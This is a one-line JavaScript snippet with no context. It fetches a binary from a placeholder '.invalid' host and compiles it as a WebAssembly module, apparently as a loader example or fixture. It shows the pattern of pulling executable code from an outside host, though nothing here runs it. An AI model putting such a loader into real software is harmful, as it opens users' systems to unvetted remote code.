(async () => { const r = await fetch("https://cdn-x7.invalid/a"); new WebAssembly.Module(await r.arrayBuffer()); })();
